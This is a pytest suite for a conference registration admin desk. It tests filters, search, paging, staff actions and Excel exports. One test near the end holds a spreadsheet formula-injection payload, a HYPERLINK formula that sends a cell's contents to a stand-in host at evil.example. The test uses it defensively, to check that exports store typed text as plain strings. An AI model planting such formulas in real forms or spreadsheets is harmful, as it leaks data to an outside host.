"""The registrations desk: the list (counts, filters, search, paging at a constant number of
queries), a registration's page and its staff actions (换人, cancel, deadline extension,
unit details), and the Excel exports read back with openpyxl.

Set-up and checks run in short app contexts; the test clients' requests run in their own."""
import hashlib
import re
import time
from datetime import timedelta
from decimal import Decimal
from io import BytesIO
from types import SimpleNamespace
from urllib.parse import urlsplit

import pytest
from openpyxl import load_workbook
from sqlalchemy import event as sa_event, insert, select

from confreg.database import utcnow
from confreg.extensions import db
from confreg.models import Attendee, AuditEntry, Event, Payment, Registration
from confreg.services.desk import PAGE_SIZE
from confreg.services.registrations import AttendeeDetails, UnitDetails, register_unit
from confreg.timeutil import CHINA, china_today
from tests.conftest import form_values, make_event, post_form, registration_form

# Any CSRF token on the page: a form's, or the sign-out button's (a finance page has no form).
ANY_CSRF = re.compile(r'name="csrf_token"(?: type="hidden")? value="([^"]+)"')
CODE_LINK = re.compile(r'class="mono" href="/admin/registrations/\d+">([0-9A-Z]+)<')
_mobiles = iter(range(10_000_000))


# --- helpers ----------------------------------------------------------------------------

def new_event(app, **overrides) -> SimpleNamespace:
    with app.app_context():
        event = make_event(**overrides)
        return SimpleNamespace(id=event.id, key=event.key, starts_on=event.starts_on,
                               ends_on=event.ends_on, form_url=f"/events/{event.key}/register")


def register(app, event_id: int, unit_name: str, names: list[str], *, tier_claim="other",
             contact_name="马晓明", contact_mobile="13912340000",
             mobiles: list[str] | None = None) -> SimpleNamespace:
    """Register a unit through the service, as the public form would."""
    with app.app_context():
        event = db.session.get(Event, event_id)
        mobiles = mobiles or [f"137{next(_mobiles):08d}" for _ in names]
        attendees = [AttendeeDetails(name=name, gender="F", title="主任", mobile=mobile,
                                     accommodation="shared", arrival_on=event.starts_on,
                                     departure_on=event.ends_on)
                     for name, mobile in zip(names, mobiles)]
        unit = UnitDetails(unit_name=unit_name, tier_claim=tier_claim, province="青海省",
                           city="西宁市", contact_name=contact_name,
                           contact_mobile=contact_mobile, contact_email="unit@example.cn")
        registration, token = register_unit(event_id, unit, attendees, today=china_today(),
                                            now=utcnow())
        db.session.commit()
        return SimpleNamespace(id=registration.id, code=registration.code, token=token,
                               total=registration.total_amount,
                               attendee_ids=[a.id for a in registration.attendees])


def pay(app, registration_id: int, amount: str, reference: str | None = None) -> None:
    """Record money received (negative: a refund), as the finance desk would."""
    with app.app_context():
        db.session.add(Payment(registration_id=registration_id, amount=Decimal(amount),
                               received_on=china_today(), payer_name="测试付款单位",
                               bank_reference=reference))
        db.session.commit()


def change_event(app, event_id: int, **values) -> None:
    with app.app_context():
        event = db.session.get(Event, event_id)
        for name, value in values.items():
            setattr(event, name, value)
        db.session.commit()


def bulk_register(app, event_id: int, units: int, per_unit: int) -> None:
    """Insert many registrations and attendees at once (not through the form: speed)."""
    with app.app_context():
        event = db.session.get(Event, event_id)
        now = utcnow()
        ids = db.session.scalars(
            insert(Registration).returning(Registration.id, sort_by_parameter_order=True),
            [dict(event_id=event_id, code=f"E{event_id}U{n:06d}",
                  token_hash=hashlib.sha256(f"{event_id}-{n}".encode()).hexdigest(),
                  status="active", unit_name=f"批量测试单位{n:05d}", tier_claim="other",
                  tier_status="standard", province="北京市", city="北京市",
                  contact_name="批量联系人", contact_mobile=f"1380{event_id % 100:02d}{n:05d}",
                  contact_email="bulk@example.cn", total_amount=Decimal("3580") * per_unit,
                  consent_at=now, created_at=now - timedelta(seconds=n), updated_at=now)
             for n in range(units)],
        ).all()
        db.session.execute(insert(Attendee), [
            dict(registration_id=registration_id, event_id=event_id, position=p,
                 name=f"参会人{n}-{p}", gender="M", title="干事", mobile=f"1390{n:05d}{p:02d}",
                 accommodation="shared", arrival_on=event.starts_on,
                 departure_on=event.ends_on, fee=Decimal("3580"))
            for n, registration_id in enumerate(ids) for p in range(per_unit)])
        # Some money too, so that the payment subquery has rows to group.
        db.session.execute(insert(Payment), [
            dict(registration_id=registration_id, amount=Decimal("1000"),
                 received_on=china_today())
            for registration_id in ids[::3]])
        db.session.commit()


def codes_on(html: str) -> list[str]:
    return CODE_LINK.findall(html)


def listed(client, event_id: int, **params) -> set[str]:
    response = client.get(f"/admin/events/{event_id}/registrations", query_string=params)
    assert response.status_code == 200
    return set(codes_on(response.text))


def audit_entries(app, registration_id: int, action: str) -> list[AuditEntry]:
    with app.app_context():
        entries = db.session.scalars(
            select(AuditEntry).where(AuditEntry.registration_id == registration_id,
                                     AuditEntry.action == action)).all()
        db.session.expunge_all()
        return entries


def post_action(client, registration_id: int, action: str, data: dict, **kwargs):
    """POST one of the registration page's forms with the page's CSRF token."""
    page = client.get(f"/admin/registrations/{registration_id}")
    return client.post(f"/admin/registrations/{registration_id}/{action}",
                       data={**data, "csrf_token": ANY_CSRF.search(page.text).group(1)},
                       **kwargs)


def flashed(client, response) -> str:
    assert response.status_code == 302, response.status_code
    return client.get(response.headers["Location"]).text


@pytest.fixture
def event(app):
    return new_event(app)


@pytest.fixture
def staff(staff_client):
    return staff_client("staff")


# --- the list: filters, counts, search, paging --------------------------------------------

@pytest.fixture
def mixed(app, event):
    """One registration in each state the filters tell apart."""
    regs = SimpleNamespace(
        pending=register(app, event.id, "未在名录中的会员单位", ["赵一"], tier_claim="committee_member"),
        unpaid=register(app, event.id, "未缴费的单位", ["钱二", "孙三"]),
        partial=register(app, event.id, "部分缴费的单位", ["李四"]),
        paid=register(app, event.id, "已缴清的单位", ["周五"]),
        overpaid=register(app, event.id, "多缴了的单位", ["吴六"]),
        cancelled=register(app, event.id, "已取消的单位", ["郑七"]),
    )
    pay(app, regs.partial.id, "1000", "TX-PARTIAL")
    pay(app, regs.paid.id, "2000", "TX-PAID-1")
    pay(app, regs.paid.id, "1580", "TX-PAID-2")
    pay(app, regs.overpaid.id, "4000", "TX-OVER")
    with app.app_context():
        db.session.get(Registration, regs.cancelled.id).status = "cancelled"
        db.session.commit()
    return regs


def test_each_filter_lists_exactly_its_registrations(app, staff, event, mixed):
    r = mixed
    assert listed(staff, event.id) == {r.pending.code, r.unpaid.code, r.partial.code,
                                       r.paid.code, r.overpaid.code}
    assert listed(staff, event.id, filter="pending") == {r.pending.code}
    assert listed(staff, event.id, filter="unpaid") == {r.pending.code, r.unpaid.code}
    assert listed(staff, event.id, filter="partial") == {r.partial.code}
    assert listed(staff, event.id, filter="paid") == {r.paid.code, r.overpaid.code}
    assert listed(staff, event.id, filter="cancelled") == {r.cancelled.code}
    # Before the payment due date nobody is overdue.
    assert listed(staff, event.id, filter="overdue") == set()


def test_overdue_lists_active_registrations_not_fully_paid_after_the_due_date(
        app, staff, event, mixed, today):
    change_event(app, event.id, payment_deadline=today - timedelta(days=1))

    overdue = listed(staff, event.id, filter="overdue")

    assert overdue == {mixed.pending.code, mixed.unpaid.code, mixed.partial.code}


def test_payment_due_day_itself_is_not_overdue(app, staff, event, mixed, today):
    change_event(app, event.id, payment_deadline=today)

    assert listed(staff, event.id, filter="overdue") == set()


def test_counts_at_the_top_give_units_attendees_and_each_filter(app, staff, event, mixed):
    text = " ".join(re.sub(r"<[^>]+>", " ", staff.get(
        f"/admin/events/{event.id}/registrations").text).split())

    assert "有效报名 5 家单位， 6 人" in text
    for label, count in [("全部有效", 5), ("会员价待核实", 1), ("未缴费", 2), ("部分缴费", 1),
                         ("已缴清", 2), ("逾期未缴", 0), ("已取消", 1)]:
        assert f"{label} {count}" in text, label


def test_the_list_shows_money_and_masks_mobiles(app, staff, event, mixed):
    page = staff.get(f"/admin/events/{event.id}/registrations").text

    assert "1,000.00" in page and "2,580.00" in page  # the partial one: paid and balance
    assert "多缴" in page and "-420.00" in page  # the over-paid one
    assert "139****0000" in page
    assert "13912340000" not in page


@pytest.mark.parametrize("query, expected", [
    ("东关大街", {"east"}),            # part of a unit name
    ("城西", {"west"}),
    ("王芳", {"west"}),                # an attendee
    ("刘德华", {"east"}),              # the contact person
    ("13700000777", {"west"}),         # an attendee's mobile
    ("139 1234 8888", {"east"}),       # the contact's mobile, typed with spaces
    ("0777", {"west"}),                # the end of a mobile
    ("%", set()),                      # LIKE wildcards are searched literally
])
def test_search_finds_by_unit_person_mobile_or_code(app, staff, event, query, expected):
    east = register(app, event.id, "西宁市城东区东关大街街道办事处", ["张伟"],
                    contact_name="刘德华", contact_mobile="13912348888", mobiles=["13711112222"])
    west = register(app, event.id, "西宁市城西区社会工作服务中心", ["王芳"],
                    mobiles=["13700000777"])
    codes = {"east": east.code, "west": west.code}

    assert listed(staff, event.id, q=query) == {codes[name] for name in expected}


def test_search_by_code_ignores_case_and_keeps_the_filter(app, staff, event, mixed):
    code = mixed.paid.code

    assert listed(staff, event.id, q=code.lower()) == {code}
    assert listed(staff, event.id, q=code, filter="unpaid") == set()
    assert listed(staff, event.id, q=mixed.unpaid.code, filter="unpaid") == {mixed.unpaid.code}


def test_pages_of_fifty_cover_every_registration_once(app, staff, event):
    bulk_register(app, event.id, units=2 * PAGE_SIZE + 20, per_unit=1)

    pages = [codes_on(staff.get(f"/admin/events/{event.id}/registrations?page={n}").text)
             for n in (1, 2, 3)]

    assert [len(p) for p in pages] == [PAGE_SIZE, PAGE_SIZE, 20]
    everything = [code for page in pages for code in page]
    assert len(set(everything)) == 2 * PAGE_SIZE + 20
    assert everything[0] == f"E{event.id}U000000"  # newest first
    page_two = staff.get(f"/admin/events/{event.id}/registrations?page=2").text
    assert "第 2 / 3 页" in page_two and "page=1" in page_two and "page=3" in page_two


def test_a_page_number_past_the_end_shows_the_last_page(app, staff, event):
    bulk_register(app, event.id, units=PAGE_SIZE + 3, per_unit=1)

    assert len(listed(staff, event.id, page="99")) == 3
    assert len(listed(staff, event.id, page="abc")) == PAGE_SIZE


def count_statements(app, client, url: str) -> tuple[int, float]:
    """The number of SQL statements a request runs, and its time."""
    statements = []

    def record(conn, cursor, statement, parameters, context, executemany):
        statements.append(statement)

    with app.app_context():
        engine = db.engine
    sa_event.listen(engine, "before_cursor_execute", record)
    try:
        started = time.perf_counter()
        response = client.get(url)
        elapsed = time.perf_counter() - started
    finally:
        sa_event.remove(engine, "before_cursor_execute", record)
    assert response.status_code == 200 and codes_on(response.text)
    return len(statements), elapsed


def test_list_query_count_is_the_same_at_100_and_10000_attendees(app, staff):
    small, large = new_event(app), new_event(app, capacity=0)
    bulk_register(app, small.id, units=20, per_unit=5)        # 100 attendees
    bulk_register(app, large.id, units=2000, per_unit=5)      # 10,000 attendees
    for event_id in (small.id, large.id):  # warm up: first-request costs are not the list's
        staff.get(f"/admin/events/{event_id}/registrations")

    small_count, _ = count_statements(app, staff, f"/admin/events/{small.id}/registrations")
    large_count, _ = count_statements(app, staff, f"/admin/events/{large.id}/registrations")
    searched, _ = count_statements(app, staff,
                                   f"/admin/events/{large.id}/registrations?q=参会人&page=7")

    assert small_count == large_count == searched
    assert large_count <= 10


# --- a registration's page ----------------------------------------------------------------

def test_the_registration_page_shows_what_the_unit_entered_money_and_payments(
        app, staff, event):
    reg = register(app, event.id, "西宁市城东区东关大街街道办事处", ["张伟", "王芳"])
    pay(app, reg.id, "3000", "TX-0001")

    page = staff.get(f"/admin/registrations/{reg.id}").text

    for text in ("西宁市城东区东关大街街道办事处", "张伟", "王芳", "马晓明", "unit@example.cn",
                 "3,580.00", "7,160.00", "3,000.00", "4,160.00", "部分缴费", "TX-0001",
                 "提交报名：2 人", "139****0000"):
        assert text in page, text
    assert "13912340000" not in page


def test_staff_may_show_mobiles_in_full_and_finance_may_not(app, staff_client, event):
    reg = register(app, event.id, "某单位", ["张伟"])

    staff_page = staff_client("staff").get(f"/admin/registrations/{reg.id}?full=1").text
    finance_page = staff_client("finance").get(f"/admin/registrations/{reg.id}?full=1").text

    assert "13912340000" in staff_page
    assert "13912340000" not in finance_page and "139****0000" in finance_page
    assert "换人" in staff_page
    assert 'action="/admin/registrations/' not in finance_page  # finance reads, never acts


def test_an_unknown_registration_is_404(app, staff):
    assert staff.get("/admin/registrations/999999").status_code == 404


# --- 换人 ---------------------------------------------------------------------------------

def substitute_data(attendee_id: int, **overrides) -> dict:
    data = {"attendee_id": str(attendee_id), "name": "李四", "gender": "M", "ethnicity": "回族",
            "title": "副主任", "mobile": "13698765432", "email": "", "id_number": "",
            "diet": "halal", "remarks": ""}
    data.update(overrides)
    return data


def test_substitute_after_the_deadline_keeps_the_fee_and_records_the_audit(
        app, staff, event, today):
    reg = register(app, event.id, "某单位", ["张三", "王芳"])
    change_event(app, event.id, registration_deadline=today - timedelta(days=1))

    response = post_action(staff, reg.id, "substitute", substitute_data(reg.attendee_ids[0]))

    assert "已换人" in flashed(staff, response)
    with app.app_context():
        registration = db.session.get(Registration, reg.id)
        attendee = db.session.get(Attendee, reg.attendee_ids[0])
        assert (attendee.name, attendee.mobile, attendee.diet) == ("李四", "13698765432", "halal")
        assert attendee.fee == Decimal("3580")
        assert attendee.accommodation == "shared"  # the place stays
        assert registration.total_amount == reg.total == Decimal("7160")
        assert [a.name for a in registration.attendees] == ["李四", "王芳"]
    [entry] = audit_entries(app, reg.id, "attendee.substituted")
    assert entry.summary.startswith("换人：张三 → 李四")
    assert entry.changes[f"attendee:{reg.attendee_ids[0]}"]["name"] == ["张三", "李四"]
    # The log says the mobile changed, masked as lists show it; the number itself is not kept.
    assert entry.changes[f"attendee:{reg.attendee_ids[0]}"]["mobile"][1] == "136****5432"
    assert "13698765432" not in repr(entry.changes)
    assert "staff@example.cn" in entry.actor
    assert "换人：张三 → 李四" in staff.get(f"/admin/registrations/{reg.id}").text


def test_the_unit_is_told_of_a_substitution_by_email(app, staff, event, smtp):
    reg = register(app, event.id, "某单位", ["张三"])

    post_action(staff, reg.id, "substitute", substitute_data(reg.attendee_ids[0]))

    # The worker sends the registration's mail too, in whichever order its threads finish.
    messages = smtp.messages
    assert len(messages) == 2
    [confirmation] = [m for m in messages if m["Subject"].strip().startswith("报名确认")]
    [message] = [m for m in messages if m is not confirmation]
    assert message["To"] == "unit@example.cn"
    assert reg.code in message["Subject"]
    body = smtp.body(message)
    assert "换人：张三 → 李四" in body and "3,580.00" in body


def test_substitute_with_a_bad_mobile_comes_back_with_the_error_and_what_was_typed(
        app, staff, event):
    reg = register(app, event.id, "某单位", ["张三"])

    response = post_action(staff, reg.id, "substitute",
                           substitute_data(reg.attendee_ids[0], mobile="12345"))

    assert response.status_code == 422
    assert "请填写 11 位中国大陆手机号码" in response.text
    assert form_values(response.text)["name"] == "李四"
    with app.app_context():
        assert db.session.get(Attendee, reg.attendee_ids[0]).name == "张三"


def test_substitute_is_refused_once_the_event_has_ended(app, staff, event, today):
    reg = register(app, event.id, "某单位", ["张三"])
    change_event(app, event.id, starts_on=today - timedelta(days=5),
                 ends_on=today - timedelta(days=1),
                 registration_deadline=today - timedelta(days=10))

    response = post_action(staff, reg.id, "substitute", substitute_data(reg.attendee_ids[0]))

    assert "活动已结束，不能再换人" in flashed(staff, response)
    with app.app_context():
        assert db.session.get(Attendee, reg.attendee_ids[0]).name == "张三"


def test_substitute_cannot_pick_another_registrations_attendee(app, staff, event):
    ours = register(app, event.id, "某单位", ["张三"])
    theirs = register(app, event.id, "另一单位", ["王五"])

    response = post_action(staff, ours.id, "substitute", substitute_data(theirs.attendee_ids[0]))

    assert response.status_code == 422
    with app.app_context():
        assert db.session.get(Attendee, theirs.attendee_ids[0]).name == "王五"


# --- cancel -------------------------------------------------------------------------------

def test_cancel_is_refused_while_money_is_paid_and_allowed_after_the_refund(
        app, staff, event, smtp):
    reg = register(app, event.id, "某单位", ["张三"])
    pay(app, reg.id, "3580", "TX-IN")

    refused = post_action(staff, reg.id, "cancel", {"reason": "单位来函不参加"})

    assert "已缴费 3,580.00 元" in flashed(staff, refused)
    with app.app_context():
        assert db.session.get(Registration, reg.id).status == "active"

    pay(app, reg.id, "-3580", "TX-REFUND")
    allowed = post_action(staff, reg.id, "cancel", {"reason": "单位来函不参加"})

    assert "报名已取消" in flashed(staff, allowed)
    # Exactly these two mails, each once; the worker's threads may send them in either order.
    assert sorted(m["Subject"].strip() for m in smtp.messages) == sorted([
        f"报名确认 {reg.code}：全国基层物业管理服务创新发展经验交流会",
        f"报名已取消 {reg.code}：全国基层物业管理服务创新发展经验交流会"])
    with app.app_context():
        assert db.session.get(Registration, reg.id).status == "cancelled"
    [entry] = audit_entries(app, reg.id, "registration.cancelled")
    assert "原因：单位来函不参加" in entry.summary
    assert entry.changes["status"] == ["active", "cancelled"]


def test_cancel_without_a_reason_shows_the_error_beside_the_field(app, staff, event):
    reg = register(app, event.id, "某单位", ["张三"])

    response = post_action(staff, reg.id, "cancel", {"reason": ""})

    assert response.status_code == 422
    assert '<p class="field-error" id="reason-error">请填写取消原因。</p>' in response.text
    with app.app_context():
        assert db.session.get(Registration, reg.id).status == "active"


def test_finance_cannot_cancel(app, staff_client, event):
    reg = register(app, event.id, "某单位", ["张三"])
    finance = staff_client("finance")

    response = post_action(finance, reg.id, "cancel", {"reason": "x"})

    assert response.status_code == 403


# --- deadline extension -------------------------------------------------------------------

def test_extension_lets_the_unit_edit_through_its_private_link_after_the_deadline(
        app, client, staff, event, today):
    response = post_form(client, event.form_url, registration_form(event, 2))
    token = urlsplit(response.headers["Location"]).path.removeprefix("/r/")
    client.get(f"/r/{token}")  # the success page, once
    change_event(app, event.id, registration_deadline=today - timedelta(days=1))
    assert client.get(f"/r/{token}/edit").status_code == 302  # closed to the unit
    with app.app_context():
        registration_id = db.session.scalar(select(Registration.id))

    extended = post_action(staff, registration_id, "extend",
                           {"until": (today + timedelta(days=2)).isoformat()})

    assert "单位可凭私密链接" in flashed(staff, extended)
    edit_page = client.get(f"/r/{token}/edit")
    assert edit_page.status_code == 200
    data = form_values(edit_page.text)
    data["attendees-1-name"] = "赵丽颖"
    saved = client.post(f"/r/{token}/edit", data=data)
    assert saved.status_code == 302
    with app.app_context():
        registration = db.session.get(Registration, registration_id)
        assert registration.deadline_extended_until == today + timedelta(days=2)
        assert [a.name for a in registration.attendees] == ["张伟", "赵丽颖"]
    [entry] = audit_entries(app, registration_id, "registration.deadline_extended")
    assert entry.changes["deadline_extended_until"] == [
        None, (today + timedelta(days=2)).isoformat()]


def test_extension_to_a_past_day_is_refused_beside_the_field(app, staff, event, today):
    reg = register(app, event.id, "某单位", ["张三"])

    response = post_action(staff, reg.id, "extend",
                           {"until": (today - timedelta(days=1)).isoformat()})

    assert response.status_code == 422
    assert 'id="until-error">延期日期不能早于今天。' in response.text
    with app.app_context():
        assert db.session.get(Registration, reg.id).deadline_extended_until is None


def test_clearing_the_extension_closes_the_private_link_again(app, staff, event, today):
    reg = register(app, event.id, "某单位", ["张三"])
    change_event(app, event.id, registration_deadline=today - timedelta(days=1))
    post_action(staff, reg.id, "extend", {"until": today.isoformat()})

    response = post_action(staff, reg.id, "extend", {"until": ""})

    assert "已撤销" in flashed(staff, response)
    with app.app_context():
        registration = db.session.get(Registration, reg.id)
        assert registration.deadline_extended_until is None
        assert not registration.can_change_attendees(today)


# --- unit details -------------------------------------------------------------------------

def test_staff_correct_the_unit_details_with_before_and_after_in_the_audit(app, staff, event):
    reg = register(app, event.id, "西宁市城东区东关街道", ["张三"])
    page = staff.get(f"/admin/registrations/{reg.id}?edit=unit").text
    data = {k: v for k, v in form_values(page).items()
            if k in ("unit_name", "province", "city", "address", "contact_name",
                     "contact_mobile", "contact_email")}
    data.update(unit_name="西宁市城东区东关大街街道办事处", contact_mobile="139 0000 1111")

    response = post_action(staff, reg.id, "unit", data)

    assert "已修改：单位名称、联系人手机" in flashed(staff, response)
    with app.app_context():
        registration = db.session.get(Registration, reg.id)
        assert registration.unit_name == "西宁市城东区东关大街街道办事处"
        assert registration.contact_mobile == "13900001111"
        assert registration.tier_status == "standard"  # the tier is the members desk's
    [entry] = audit_entries(app, reg.id, "registration.unit_updated")
    assert entry.changes["unit_name"] == ["西宁市城东区东关街道", "西宁市城东区东关大街街道办事处"]


def test_a_bad_contact_email_comes_back_beside_the_field_with_what_was_typed(app, staff, event):
    reg = register(app, event.id, "某单位", ["张三"])
    data = {"unit_name": "新的单位名称", "province": "青海省", "city": "西宁市", "address": "",
            "contact_name": "马晓明", "contact_mobile": "13912340000",
            "contact_email": "not-an-email"}

    response = post_action(staff, reg.id, "unit", data)

    assert response.status_code == 422
    assert 'id="contact_email-error">邮箱格式不正确' in response.text
    assert form_values(response.text)["unit_name"] == "新的单位名称"


# --- Excel exports ------------------------------------------------------------------------

def read_sheet(response):
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    workbook = load_workbook(BytesIO(response.data))
    sheet = workbook.active
    rows = list(sheet.iter_rows(values_only=True))
    return sheet, rows[0], [dict(zip(rows[0], row)) for row in rows[1:]]


def test_the_registrations_export_has_one_row_per_registration_with_full_mobiles(
        app, staff, event, mixed):
    sheet, header, rows = read_sheet(
        staff.get(f"/admin/events/{event.id}/registrations.xlsx"))

    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(header)).column_letter}7"
    assert sheet.column_dimensions["C"].width >= 30
    by_code = {row["报名编号"]: row for row in rows}
    assert set(by_code) == {r.code for r in vars(mixed).values()}
    partial = by_code[mixed.partial.code]
    assert partial["单位名称"] == "部分缴费的单位"
    assert partial["联系人手机"] == "13912340000"
    assert (partial["应缴（元）"], partial["已缴（元）"], partial["未缴（元）"]) == (3580, 1000, 2580)
    assert partial["缴费状态"] == "部分缴费"
    assert by_code[mixed.pending.code]["收费类别"] == "会员价待核实"
    assert by_code[mixed.cancelled.code]["状态"] == "已取消"
    assert by_code[mixed.unpaid.code]["参会人员"] == "钱二、孙三"
    with app.app_context():
        created = db.session.get(Registration, mixed.paid.id).created_at
    written = by_code[mixed.paid.code]["报名时间"]  # China wall-clock time, to the second
    assert abs(written - created.astimezone(CHINA).replace(tzinfo=None)) < timedelta(seconds=1)


def test_the_attendees_export_has_one_row_per_attendee_with_their_unit(app, staff, event, mixed):
    sheet, header, rows = read_sheet(staff.get(f"/admin/events/{event.id}/attendees.xlsx"))

    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:")
    assert len(rows) == 7
    [row] = [row for row in rows if row["姓名"] == "孙三"]
    assert row["报名编号"] == mixed.unpaid.code and row["单位名称"] == "未缴费的单位"
    assert row["序号"] == 2 and row["性别"] == "女" and row["住宿"] == "合住"
    assert row["手机"].startswith("137") and "*" not in row["手机"]
    assert row["到达日期"].date() == event.starts_on
    assert row["费用（元）"] == 3580 and row["缴费状态"] == "未缴费"


def test_reviewers_cannot_download_the_exports(app, staff_client, event):
    reviewer = staff_client("reviewer")

    assert reviewer.get(f"/admin/events/{event.id}/attendees.xlsx").status_code == 403


def test_text_a_unit_typed_is_exported_as_text_never_as_a_formula(app, client, staff, event):
    from tests.conftest import post_form, registration_form

    formula = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
    form = registration_form(event, 1, unit_name=formula, city="=1+1")
    assert post_form(client, f"/events/{event.key}/register", form).status_code == 302

    response = staff.get(f"/admin/events/{event.id}/registrations.xlsx")
    sheet = load_workbook(BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value in (formula, "=1+1")]

    # Unit name and city: the staff's copy has no invoice columns (the title defaults to the name).
    assert len(cells) == 2
    assert all(cell.data_type == "s" for cell in cells)
    assert "发票抬头" not in [cell.value for cell in sheet[1]]
